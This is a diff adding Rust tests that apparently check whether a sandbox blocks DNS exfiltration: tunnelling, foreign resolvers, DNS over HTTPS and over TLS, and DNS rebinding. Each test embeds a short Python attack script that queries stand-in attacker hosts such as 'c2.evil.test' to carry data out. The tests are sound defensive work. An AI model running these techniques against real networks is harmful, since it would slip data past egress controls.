@@ -1,0 +1,121 @@
+//! DNS: as a road for data, by other resolvers, and names that move.
+
+use super::{EVIL, Scene, World, empty};
+use crate::{Test, bench::expect};
+use agentkernel_testkit::origin::{Certificate, Files, Net};
+use std::net::IpAddr;
+
+pub(super) const fn tests() -> [Test; 5] {
+    [
+        ("hostile/dns-tunnel", tunnel),
+        ("hostile/foreign-resolver", foreign),
+        ("hostile/dns-over-https", over_https),
+        ("hostile/dns-over-tls", over_tls),
+        ("hostile/rebinding", rebinding),
+    ]
+}
+
+fn tunnel(world: &World) -> Result<(), String> {
+    let scene = Scene::new(world, &[])?;
+    world.site.dns().set("c2.evil.test", &[scene.evil.address().ip()]);
+    scene.attack(
+        "for kind in (1, 28, 16, 5, 15, 2, 10, 12, 33, 65, 99, 255):
+    ask('secret-' + 'a' * 40 + '.c2.evil.test', kind)
+    message = question('tcp-' + str(kind) + '.c2.evil.test', kind)
+    say('192.0.2.53', 53, len(message).to_bytes(2, 'big') + message)
+for name in ('api.test.evil.test', 'evilapi.test', 'test', 'x' * 63 + '.test', 'data.api.test', 'api.test.'):
+    ask(name, 16)
+try: socket.getaddrinfo('lookup.c2.evil.test', 80)
+except OSError: pass",
+    )?;
+    let asked = world.site.dns().asked();
+    let led: Vec<_> = asked.iter().filter(|q| q.name != super::API).collect();
+    expect(led.is_empty(), || format!("names went out: {led:?}"))?;
+    scene.guest.refused(&["c2.evil.test"])
+}
+
+fn foreign(world: &World) -> Result<(), String> {
+    let scene = Scene::new(world, &[])?;
+    let trap = world.site.trap(Net::Forbidden, 53).map_err(|e| e.to_string())?;
+    let script = format!(
+        "for server in ('{ip}', '8.8.8.8', '127.0.77.53'):
+    for port in (53, {port}):
+        ask('data.evil.test', 1, server, port)
+        message = question('data.evil.test')
+        say(server, port, len(message).to_bytes(2, 'big') + message)",
+        ip = trap.address().ip(),
+        port = trap.address().port(),
+    );
+    scene.attack(&script)?;
+    empty(&trap)?;
+    let asked = world.site.dns().asked();
+    expect(!asked.iter().any(|q| q.name.ends_with(EVIL)), || format!("{asked:?}"))
+}
+
+fn over_https(world: &World) -> Result<(), String> {
+    let scene = Scene::new(world, &[])?;
+    let doh = world.site.tls(Net::Forbidden, &["doh.test"], Certificate::Right, Files::default());
+    let doh = doh.map_err(|e| e.to_string())?;
+    let script = format!(
+        "ip, port = '{ip}', {port}
+body = question('data.evil.test')
+post = b'POST /dns-query HTTP/1.1\\r\\nHost: doh.test\\r\\nContent-Type: application/dns-message\\r\\n' + \\
+    b'Content-Length: %d\\r\\n\\r\\n' % len(body) + body
+for host in ('doh.test', ip):
+    for sni in ('doh.test', API, None):
+        try: answer = tls(host, port, sni, post, verify=False)
+        except ValueError: continue
+        assert status(answer) == 'none', answer
+for host in ('doh.test', ip):
+    request = f'CONNECT {{host}}:{{port}} HTTP/1.1\\r\\nHost: {{host}}\\r\\n\\r\\n'
+    assert status(say(*PROXY, request.encode())) == '403'",
+        ip = doh.address().ip(),
+        port = doh.address().port(),
+    );
+    scene.attack(&script)?;
+    expect(doh.record().is_empty(), || format!("{:?}", doh.record()))?;
+    scene.guest.refused(&["doh.test"])
+}
+
+fn over_tls(world: &World) -> Result<(), String> {
+    let scene = Scene::new(world, &[])?;
+    let trap = world.site.trap(Net::Forbidden, 853).map_err(|e| e.to_string())?;
+    world.site.dns().set("dot.test", &[trap.address().ip()]);
+    let script = format!(
+        "message = question('data.evil.test')
+for host in ('dot.test', '{ip}'):
+    answer = tls(host, {port}, 'dot.test', len(message).to_bytes(2, 'big') + message, verify=False)
+    assert answer.startswith(b'ERROR'), answer",
+        ip = trap.address().ip(),
+        port = trap.address().port(),
+    );
+    scene.attack(&script)?;
+    empty(&trap)?;
+    scene.guest.refused(&["dot.test"])
+}
+
+/// A name that a rule lets out leads to a good address first, and then to where nothing may go.
+fn rebinding(world: &World) -> Result<(), String> {
+    let scene = Scene::new(world, &["--allow", "moves.test"])?;
+    let trap = world.site.trap(Net::Forbidden, 8080).map_err(|e| e.to_string())?;
+    let loopback = world.site.trap_at(([127, 0, 0, 1], 0).into()).map_err(|e| e.to_string())?;
+    let good = scene.api.address().ip();
+    let bad: [IpAddr; 2] = [trap.address().ip(), loopback.address().ip()];
+    world.site.dns().script("moves.test", &[&[good], &[bad[0]], &[bad[1]], &bad]);
+    let script = format!(
+        "first = ask('moves.test')
+assert first[-4:] == bytes(map(int, API_IP.split('.'))), first
+for round in range(6):
+    for port in ({trap}, {loopback}):
+        answer = say('moves.test', port, get('moves.test'))
+        assert status(answer) in ('none', '403'), answer
+        request = f'GET http://moves.test:{{port}}/ HTTP/1.1\\r\\nHost: moves.test:{{port}}\\r\\nConnection: close\\r\\n\\r\\n'
+        assert status(say(*PROXY, request.encode())) in ('403', '502', '504'), request",
+        trap = trap.address().port(),
+        loopback = loopback.address().port(),
+    );
+    scene.attack(&script)?;
+    empty(&trap)?;
+    empty(&loopback)?;
+    scene.guest.refused(&["moves.test"])
+}
